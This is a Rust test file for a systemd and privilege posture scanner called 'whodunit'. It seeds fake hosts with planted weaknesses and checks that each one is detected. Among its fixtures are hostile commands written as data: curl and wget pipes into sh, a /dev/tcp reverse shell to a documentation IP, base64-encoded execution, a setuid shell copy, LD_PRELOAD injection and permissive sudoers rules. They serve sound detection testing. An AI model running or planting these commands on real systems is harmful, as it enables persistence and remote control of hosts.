//! `scan` on small hosts in directories: a clean one, and one evil thing for each check.

#![expect(
    clippy::expect_used,
    reason = "a test fails by panicking, also in its helpers"
)]

use std::collections::BTreeSet;

use whodunit::detect::{Tunables, catalogue, mapping, posture};
use whodunit::event::{ControlStatus, Posture, Severity};

#[path = "posture/tree.rs"]
mod tree;
use tree::Tree;

use Severity::{Critical, High, Informational, Low, Medium};

/// What is done to a clean host, and the result that must come: check, severity, unit or path.
type Case = (&'static str, fn(&mut Tree), Severity, &'static str);

const SERVICE: &str = "[Service]\nExecStart=/opt/app/run\n";

fn with_program(tree: &mut Tree) {
    tree.program("opt/app/run", "#!/bin/sh\nexec true\n")
        .unit("app.service", SERVICE);
}

const CASES: [Case; 67] = [
    (
        "command-writable",
        |t| {
            with_program(t);
            t.mode("opt/app/run", 0o757);
        },
        Critical,
        "/opt/app/run",
    ),
    (
        "command-writable",
        |t| {
            with_program(t);
            t.mode("opt/app", 0o777);
        },
        Critical,
        "/opt/app",
    ),
    (
        "command-writable",
        |t| {
            with_program(t);
            t.mode("opt/app/run", 0o775);
            std::os::unix::fs::chown(t.at("opt/app/run"), None, Some(60)).expect("chgrp");
        },
        High,
        "/opt/app/run",
    ),
    (
        "command-writable",
        |t| {
            with_program(t);
            t.mode("opt/app/run", 0o775);
            std::os::unix::fs::chown(t.at("opt/app/run"), None, Some(50)).expect("chgrp");
        },
        Informational,
        "/opt/app/run",
    ),
    (
        "command-writable",
        |t| {
            // A script is what an interpreter runs.
            t.program("opt/x.sh", "true").mode("opt/x.sh", 0o666);
            t.unit("app.service", "[Service]\nExecStart=/bin/sh /opt/x.sh\n");
        },
        Critical,
        "/opt/x.sh",
    ),
    (
        "root-runs-users-file",
        |t| {
            with_program(t);
            t.own("opt/app/run", 1000);
        },
        High,
        "/opt/app/run",
    ),
    (
        "command-missing",
        |t| {
            t.unit("app.service", SERVICE);
        },
        Low,
        "app.service",
    ),
    (
        "command-missing",
        |t| {
            t.unit("app.service", "[Service]\nExecStart=/tmp/x\n");
        },
        High,
        "app.service",
    ),
    (
        "command-missing",
        |t| {
            t.unit("app.service", "[Service]\nExecStart=no-such-program\n");
        },
        Low,
        "app.service",
    ),
    (
        "command-modified",
        |t| {
            t.program("usr/sbin/logrotate", "ELF other");
        },
        High,
        "/usr/sbin/logrotate",
    ),
    (
        "command-unowned",
        with_program,
        Informational,
        "/opt/app/run",
    ),
    (
        "command-odd-place",
        |t| {
            t.program("dev/shm/x", "ELF")
                .unit("app.service", "[Service]\nExecStart=/dev/shm/x\n");
        },
        High,
        "/dev/shm/x",
    ),
    (
        "command-odd-place",
        |t| {
            t.program("opt/.x/u.sh", "true")
                .unit("app.service", "[Service]\nExecStart=/bin/sh /opt/.x/u.sh\n");
        },
        High,
        "/opt/.x/u.sh",
    ),
    (
        "command-odd-place",
        |t| {
            t.program("var/tmp/x", "ELF").link("/var/tmp/x", "opt/good");
            t.unit("app.service", "[Service]\nExecStart=/opt/good\n");
        },
        High,
        "/opt/good",
    ),
    (
        "command-odd-place",
        |t| {
            t.program("home/alice/x", "ELF")
                .unit("app.service", "[Service]\nExecStart=/home/alice/x\n");
        },
        Medium,
        "/home/alice/x",
    ),
    (
        "command-setuid",
        |t| {
            with_program(t);
            t.mode("opt/app/run", 0o4755);
        },
        High,
        "/opt/app/run",
    ),
    (
        "command-inline-code",
        |t| {
            t.unit("app.service", "[Service]\nExecStart=/bin/sh -ec 'true'\n");
        },
        Low,
        "app.service",
    ),
    (
        "command-inline-code",
        |t| {
            t.program("usr/bin/python3", "ELF").unit(
                "app.service",
                "[Service]\nExecStart=/usr/bin/env A=b python3 -c 'x'\n",
            );
        },
        Medium,
        "app.service",
    ),
    (
        "command-network-one-liner",
        |t| {
            t.unit(
                "app.service",
                "[Service]\nExecStart=/bin/sh -c 'curl -s http://x/y | sh'\n",
            );
        },
        Critical,
        "app.service",
    ),
    (
        "command-network-one-liner",
        |t| {
            t.program(
                "opt/x",
                "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
            );
            t.unit("app.service", "[Service]\nExecStart=/opt/x\n");
        },
        Critical,
        "app.service",
    ),
    (
        "command-network-one-liner",
        |t| {
            t.file(
                "home/alice/.config/systemd/user/x.service",
                "[Service]\nExecStart=/bin/sh -c 'wget -O- http://x|sh'\n",
            );
        },
        High,
        "x.service",
    ),
    (
        "command-encoded",
        |t| {
            t.unit(
                "app.service",
                "[Service]\nExecStart=/bin/sh -c 'echo eA== | base64 -d | sh'\n",
            );
        },
        High,
        "app.service",
    ),
    (
        "command-invisible-characters",
        |t| {
            t.unit(
                "app.service",
                "[Service]\nExecStart=/bin/sh /opt/a\u{200b}b\n",
            );
        },
        High,
        "app.service",
    ),
    (
        "unit-hidden",
        |t| {
            t.unit(".x.timer", "[Timer]\nOnCalendar=daily\n");
        },
        High,
        ".x.timer",
    ),
    (
        "unit-hidden",
        |t| {
            t.unit("ssh\u{200b}.service", "");
        },
        Medium,
        "/etc/systemd/system/ssh\u{200b}.service",
    ),
    (
        "unit-look-alike",
        |t| {
            t.unit("1ogrotate.timer", "[Timer]\nOnCalendar=daily\n");
        },
        Medium,
        "1ogrotate.timer",
    ),
    (
        "unit-claims-system-name",
        |t| {
            t.unit(
                "systemd-tmpfiles-cleanup.timer",
                "[Timer]\nOnCalendar=daily\n",
            );
        },
        Medium,
        "systemd-tmpfiles-cleanup.timer",
    ),
    (
        "unit-claims-system-name",
        |t| {
            t.unit(
                "dbus-org.freedesktop.resolved.timer",
                "[Timer]\nOnCalendar=daily\n",
            );
        },
        Medium,
        "dbus-org.freedesktop.resolved.timer",
    ),
    (
        "unit-shadows-packaged",
        |t| {
            t.unit("logrotate.service", SERVICE);
        },
        Medium,
        "logrotate.service",
    ),
    (
        "unit-shadows-packaged",
        |t| {
            t.file("run/systemd/generator.early/logrotate.service", SERVICE);
        },
        Low,
        "logrotate.service",
    ),
    (
        "security-unit-masked",
        |t| {
            t.link(
                "/dev/null",
                "etc/systemd/system/unattended-upgrades.service",
            );
        },
        High,
        "unattended-upgrades.service",
    ),
    (
        "security-unit-masked",
        |t| {
            t.unit("auditd.service", "");
        },
        High,
        "auditd.service",
    ),
    (
        "drop-in-adds-command",
        |t| {
            t.unit(
                "logrotate.service.d/x.conf",
                "[Service]\nExecStartPost=/bin/sh /opt/x\n",
            );
        },
        Medium,
        "/etc/systemd/system/logrotate.service.d/x.conf",
    ),
    (
        "drop-in-adds-command",
        |t| {
            t.unit(
                "logrotate.service.d/x.conf",
                "[Service]\nExecStart=\nExecStart=/usr/sbin/logrotate -v\n",
            );
        },
        Low,
        "/etc/systemd/system/logrotate.service.d/x.conf",
    ),
    (
        "drop-in-for-many-units",
        |t| {
            t.unit("service.d/x.conf", "[Service]\nExecStartPre=/opt/x\n");
        },
        High,
        "/etc/systemd/system/service.d/x.conf",
    ),
    (
        "drop-in-for-many-units",
        |t| {
            t.unit("unattended-.service.d/x.conf", "[Service]\nNice=5\n");
        },
        Informational,
        "/etc/systemd/system/unattended-.service.d/x.conf",
    ),
    (
        "unit-file-modified",
        |t| {
            t.file(
                "usr/lib/systemd/system/logrotate.timer",
                "[Timer]\nOnCalendar=minutely\n",
            );
        },
        High,
        "logrotate.timer",
    ),
    ("unit-unowned", with_program, Informational, "app.service"),
    (
        "timer-short-interval",
        |t| {
            with_program(t);
            t.unit("app.timer", "[Timer]\nOnUnitActiveSec=60\n");
        },
        Low,
        "app.timer",
    ),
    (
        "timer-short-interval",
        |t| {
            t.unit("app.timer", "[Timer]\nOnCalendar=*:0/4\n");
        },
        Low,
        "app.timer",
    ),
    (
        "timer-starts-packaged-unit",
        |t| {
            t.unit(
                "app.timer",
                "[Timer]\nOnCalendar=daily\nUnit=logrotate.service\n",
            );
        },
        Informational,
        "app.timer",
    ),
    (
        "unit-transient",
        |t| {
            t.file(
                "run/systemd/transient/run-u1.timer",
                "[Timer]\nOnActiveSec=1h\n",
            );
        },
        Low,
        "run-u1.timer",
    ),
    (
        "unit-transient",
        |t| {
            t.file(
                "run/systemd/transient/run-u1.service",
                "[Service]\nExecStart=/usr/sbin/logrotate\n",
            );
        },
        Informational,
        "run-u1.service",
    ),
    (
        "unit-generated",
        |t| {
            t.program("opt/x", "ELF").file(
                "run/systemd/generator/x.service",
                "[Service]\nExecStart=/opt/x\n",
            );
        },
        Low,
        "x.service",
    ),
    (
        "environment-preload",
        |t| {
            with_program(t);
            t.unit(
                "app.service.d/x.conf",
                "[Service]\nEnvironment=A=b \"LD_PRELOAD=/opt/x.so\"\n",
            );
        },
        High,
        "/etc/systemd/system/app.service.d/x.conf",
    ),
    (
        "environment-preload",
        |t| {
            with_program(t);
            t.file("etc/default/app", "LD_PRELOAD=/opt/x.so\n");
            t.unit(
                "app.service.d/x.conf",
                "[Service]\nEnvironmentFile=-/etc/default/app\n",
            );
        },
        High,
        "/etc/default/app",
    ),
    (
        "environment-preload",
        |t| {
            t.file("etc/ld.so.preload", "/opt/x.so\n");
        },
        High,
        "/etc/ld.so.preload",
    ),
    (
        "environment-preload",
        |t| {
            t.file(
                "etc/systemd/system.conf.d/x.conf",
                "[Manager]\nDefaultEnvironment=LD_AUDIT=/opt/x.so\n",
            );
        },
        High,
        "/etc/systemd/system.conf.d/x.conf",
    ),
    (
        "environment-file-writable",
        |t| {
            with_program(t);
            t.file("etc/default/app", "A=b\n")
                .mode("etc/default/app", 0o666);
            t.unit(
                "app.service.d/x.conf",
                "[Service]\nEnvironmentFile=/etc/default/app\n",
            );
        },
        High,
        "/etc/default/app",
    ),
    (
        "load-path-moved",
        |t| {
            t.file(
                "etc/systemd/system.conf",
                "[Manager]\nManagerEnvironment=SYSTEMD_UNIT_PATH=/opt/units:\n",
            );
        },
        High,
        "/etc/systemd/system.conf",
    ),
    (
        "unit-place-writable",
        |t| {
            t.mode("etc/systemd/system", 0o777);
        },
        Critical,
        "/etc/systemd/system",
    ),
    (
        "unit-place-writable",
        |t| {
            t.own("usr/lib/systemd/system/logrotate.timer", 1000);
        },
        High,
        "/usr/lib/systemd/system/logrotate.timer",
    ),
    (
        "generator-unowned",
        |t| {
            t.program("etc/systemd/system-generators/x", "#!/bin/sh\n");
        },
        High,
        "/etc/systemd/system-generators/x",
    ),
    (
        "privilege-rules-writable",
        |t| {
            t.file("etc/sudoers.d/ops", "")
                .mode("etc/sudoers.d/ops", 0o666);
        },
        Critical,
        "/etc/sudoers.d/ops",
    ),
    (
        "sudo-runs-units",
        |t| {
            t.file(
                "etc/sudoers.d/ops",
                "alice ALL=(root) NOPASSWD: /usr/bin/systemctl\n",
            );
        },
        High,
        "/etc/sudoers.d/ops:1",
    ),
    (
        "sudo-runs-units",
        |t| {
            t.file("etc/sudoers.d/ops", "\n%ops ALL=(ALL) NOPASSWD: ALL\n");
        },
        Medium,
        "/etc/sudoers.d/ops:2",
    ),
    (
        "polkit-manages-units",
        |t| {
            t.file("etc/polkit-1/rules.d/x.rules", "polkit.addRule(function(action, subject) { \
            if (action.id == 'org.freedesktop.systemd1.manage-units') return polkit.Result.YES; });");
        },
        High,
        "/etc/polkit-1/rules.d/x.rules",
    ),
    (
        "group-equals-root",
        |t| {
            t.file("etc/group", "docker:x:99:alice\n");
        },
        Low,
        "/etc/group:docker",
    ),
    (
        "user-lingers",
        |t| {
            t.file("var/lib/systemd/linger/alice", "");
            t.file(
                "home/alice/.config/systemd/user/x.timer",
                "[Timer]\nOnCalendar=daily\n",
            );
        },
        Low,
        "/var/lib/systemd/linger/alice",
    ),
    (
        "unit-account-odd",
        |t| {
            with_program(t);
            t.unit("app.service.d/x.conf", "[Service]\nUser=gone\n");
        },
        Low,
        "app.service",
    ),
    (
        "unit-account-odd",
        |t| {
            t.file(
                "var/www/.config/systemd/user/x.timer",
                "[Timer]\nOnCalendar=daily\n",
            );
        },
        Medium,
        "x.timer",
    ),
    (
        "not-looked-at",
        |t| {
            t.file("etc/sudoers.d/ops", "alice ALL\n");
        },
        Informational,
        "",
    ),
    (
        "command-setuid",
        |t| {
            t.unit(
                "app.service",
                "[Service]\nExecStart=/bin/sh -c 'cp /bin/sh /opt/s; chmod 4755 /opt/s'\n",
            );
        },
        High,
        "app.service",
    ),
    (
        "unit-place-writable",
        |t| {
            // Nothing is there yet: whoever can make it decides what is.
            t.file("usr/local/lib/x", "").mode("usr/local/lib", 0o777);
        },
        Critical,
        "/usr/local/lib",
    ),
    (
        "privilege-rules-writable",
        |t| {
            std::fs::create_dir_all(t.at("etc/sudoers.d")).expect("mkdir");
            t.mode("etc/sudoers.d", 0o777);
        },
        Critical,
        "/etc/sudoers.d",
    ),
    (
        "command-modified",
        |t| {
            // The package's file is gone, and a link to somebody's is in its place.
            std::fs::remove_file(t.at("usr/sbin/logrotate")).expect("remove");
            t.program("opt/x", "ELF")
                .link("/opt/x", "usr/sbin/logrotate");
        },
        High,
        "/usr/sbin/logrotate",
    ),
    (
        "unit-file-modified",
        |t| {
            std::fs::remove_file(t.at("usr/lib/systemd/system/logrotate.service")).expect("remove");
            t.file("opt/x.service", SERVICE)
                .link("/opt/x.service", "usr/lib/systemd/system/logrotate.service");
        },
        High,
        "logrotate.service",
    ),
];

/// Says so where the tests cannot be run: files of root's and of others take root to make.
fn cannot() -> bool {
    let root = nix::unistd::geteuid().is_root();
    if !root {
        println!("\nskipped: only root can give files to users");
    }
    !root
}

fn describe(results: &[Posture]) -> String {
    let lines = results.iter().map(|it| {
        format!(
            "{} {} {:?} {:?}: {}\n",
            it.severity.as_str(),
            it.entry.id,
            it.unit,
            it.path,
            it.message
        )
    });
    lines.collect()
}

#[test]
fn a_clean_host_is_quiet() {
    if cannot() {
        return;
    }
    let results = Tree::clean().results();
    let loud: Vec<_> = results
        .iter()
        .filter(|it| it.severity > Informational)
        .cloned()
        .collect();
    assert!(loud.is_empty(), "{}", describe(&loud));
}

#[test]
fn every_check_finds_what_it_is_for() {
    if cannot() {
        return;
    }
    let mut covered = BTreeSet::new();
    for (id, make, severity, about) in CASES {
        let mut tree = Tree::clean();
        make(&mut tree);
        let results = tree.results();
        let of_check: Vec<_> = results.iter().filter(|it| it.entry.id == id).collect();
        let found = of_check.iter().find(|it| {
            let named = [&it.unit, &it.path]
                .into_iter()
                .flatten()
                .any(|it| it == about);
            (named || about.is_empty()) && it.severity == severity
        });
        assert!(
            found.is_some(),
            "{id} {severity:?} {about}:\n{}",
            describe(&results)
        );
        covered.insert(id);
    }
    let missing: Vec<_> = posture::CHECKS
        .iter()
        .map(|it| it.id)
        .filter(|id| !covered.contains(id))
        .collect();
    assert!(missing.is_empty(), "no case for {missing:?}");
}

#[test]
fn fixes_close_what_they_are_for() {
    if cannot() {
        return;
    }
    let mut tree = Tree::clean();
    with_program(&mut tree);
    tree.mode("opt/app", 0o777)
        .own("opt/app/run", 1000)
        .mode("etc/systemd/system", 0o775);
    std::os::unix::fs::chown(tree.at("etc/systemd/system"), None, Some(60)).expect("chgrp");
    let before = tree.results();
    let fixes: Vec<_> = before
        .iter()
        .filter(|it| it.severity > Informational)
        .filter_map(|it| it.fix.clone())
        .collect();
    assert_eq!(fixes.len(), 3, "{}", describe(&before));
    for fix in fixes {
        let dir = tree.dir().display();
        let fix = fix.replace("-- /", &format!("-- {dir}/"));
        let status = std::process::Command::new("sh").args(["-c", &fix]).status();
        assert!(status.expect("sh").success(), "{fix}");
    }
    let after: Vec<_> = tree
        .results()
        .into_iter()
        .filter(|it| it.severity > Informational)
        .collect();
    assert!(after.is_empty(), "{}", describe(&after));
}

#[test]
fn hostile_trees_end() {
    if cannot() {
        return;
    }
    let tree = Tree::clean();
    tree.link("loop.service", "etc/systemd/system/loop.service");
    tree.link("b", "etc/systemd/a").link("a", "etc/systemd/b");
    tree.link("/etc/systemd/system", "etc/systemd/system/x.service.d");
    nix::unistd::mkfifo(
        &tree.at("etc/systemd/system/f.service"),
        nix::sys::stat::Mode::S_IRWXU,
    )
    .expect("mkfifo");
    nix::unistd::mkfifo(&tree.at("etc/sudoers.d"), nix::sys::stat::Mode::S_IRWXU).expect("mkfifo");
    tree.file(
        "etc/polkit-1/rules.d/x.rules",
        &"polkit.addRule('".repeat(50_000),
    );
    tree.file(
        "etc/systemd/system/big.service",
        &format!("[Service]\nExecStart={}", "/x ".repeat(500_000)),
    );
    tree.link("/dev/zero", "etc/systemd/system/zero.service");
    tree.link(
        "../../../../../../../../etc/shadow",
        "etc/systemd/system/out.service",
    );
    let results = tree.results();
    assert!(
        results.iter().any(|it| it.entry.id == "not-looked-at"),
        "{}",
        describe(&results)
    );
}

/// What must be done to a clean host for a row not to pass; `None` for rows of the agent alone.
fn break_row(id: &str) -> Option<fn(&mut Tree)> {
    Some(match id {
        "DC0064" | "SI-4" | "action.hacking.variety.Abuse of functionality" => |t| {
            t.unit(
                "app.service",
                "[Service]\nExecStart=/bin/sh -c 'curl http://x | sh'\n",
            );
        },
        "DC0039" => |t| {
            t.unit("logrotate.service", SERVICE);
        },
        "DC0001" => |t| {
            t.unit("app.timer", "[Timer]\nOnUnitActiveSec=10\n");
        },
        "M1018" | "AC-5" | "IA-2" => |t| {
            t.file(
                "etc/sudoers.d/ops",
                "alice ALL=(ALL) NOPASSWD: /usr/bin/systemd-run\n",
            );
        },
        "M1022" | "AC-3" | "amazon_inspector" => |t| {
            t.mode("usr/lib/systemd/system", 0o777);
        },
        "M1026" | "AC-6" => |t| {
            with_program(t);
            t.own("opt/app/run", 1000);
        },
        "AC-2" => |t| {
            with_program(t);
            t.unit("app.service.d/x.conf", "[Service]\nUser=gone\n");
        },
        "CA-7" => |t| {
            t.unit("auditd.service", "");
        },
        "CM-5" => |t| {
            t.unit("service.d/x.conf", "[Service]\nExecStartPre=/x\n");
        },
        "SI-7" => |t| {
            t.program("usr/sbin/logrotate", "ELF other");
        },
        _ => return None,
    })
}

fn status(tree: &Tree, id: &str) -> (ControlStatus, Vec<String>) {
    let inventory = tree.inventory();
    let results = posture::assess(&inventory, &Tunables::default());
    let controls = mapping::report(&inventory, &results);
    let control = controls.into_iter().find(|it| it.id == id).expect(id);
    (control.status, control.evidence)
}

#[test]
fn every_row_passes_fails_and_says_why() {
    if cannot() {
        return;
    }
    for row in &mapping::ROWS {
        let mut tree = Tree::clean();
        tree.package("usr/bin/whodunit", "ELF whodunit", 0o755);
        let unit = "[Service]\nExecStart=/usr/bin/whodunit run\n";
        tree.package("usr/lib/systemd/system/whodunit.service", unit, 0o644);
        tree.link(
            "/usr/lib/systemd/system/whodunit.service",
            "etc/systemd/system/multi-user.target.wants/whodunit.service",
        );
        let (clean, evidence) = status(&tree, row.id);
        assert_eq!(clean, ControlStatus::Pass, "{} {evidence:?}", row.id);
        assert!(!evidence.is_empty(), "{}", row.id);
        if let Some(make) = break_row(row.id) {
            make(&mut tree);
            let (broken, evidence) = status(&tree, row.id);
            assert_eq!(broken, ControlStatus::Fail, "{} {evidence:?}", row.id);
            let named = row
                .checks
                .iter()
                .any(|check| evidence.iter().any(|it| it.starts_with(check)));
            assert!(named, "{} {evidence:?}", row.id);
        } else {
            assert!(row.checks.is_empty(), "{} has checks and no case", row.id);
        }
        if row.agent {
            let tree = Tree::clean();
            assert_ne!(
                status(&tree, row.id).0,
                ControlStatus::Pass,
                "{} without an agent",
                row.id
            );
            tree.link("/dev/null", "etc/systemd/system/whodunit.service");
            let (masked, evidence) = status(&tree, row.id);
            assert_eq!(masked, ControlStatus::Fail, "{} {evidence:?}", row.id);
        }
    }
}

#[test]
fn results_and_findings_state_their_rows() {
    for entry in posture::CHECKS {
        let controls = mapping::controls_of(entry.id);
        let free = [
            "command-missing",
            "command-unowned",
            "unit-generated",
            "not-looked-at",
        ];
        assert!(
            !controls.is_empty() || free.contains(&entry.id),
            "{}",
            entry.id
        );
    }
    for rule in catalogue::RULES {
        assert!(!mapping::controls_of(rule.id).is_empty(), "{}", rule.id);
    }
    for id in ["timer-ran-changed-unit", "changed-unit-ran"] {
        let controls = mapping::controls_of(id);
        for wanted in ["SI-4", "CM-5", "IA-2", "AC-5", "DC0032", "M1026"] {
            assert!(controls.contains(&wanted), "{id} {controls:?}");
        }
    }
}

#[test]
fn without_a_package_database_integrity_is_unknown() {
    if cannot() {
        return;
    }
    let tree = Tree::clean();
    std::fs::remove_dir_all(tree.at("var/lib/dpkg")).expect("remove");
    assert_eq!(status(&tree, "SI-7").0, ControlStatus::Unknown);
    let tree = tempfile::tempdir().expect("tempdir");
    let root = whodunit::host::rooted::Root::at(tree.path());
    let paths = whodunit::systemd::load_paths::LoadPaths::builtin();
    let inventory = whodunit::systemd::inventory::collect(&root, &paths);
    let controls = mapping::report(&inventory, &[]);
    let passed: Vec<_> = controls
        .iter()
        .filter(|it| it.status == ControlStatus::Pass)
        .collect();
    assert!(passed.is_empty(), "{passed:?}");
}
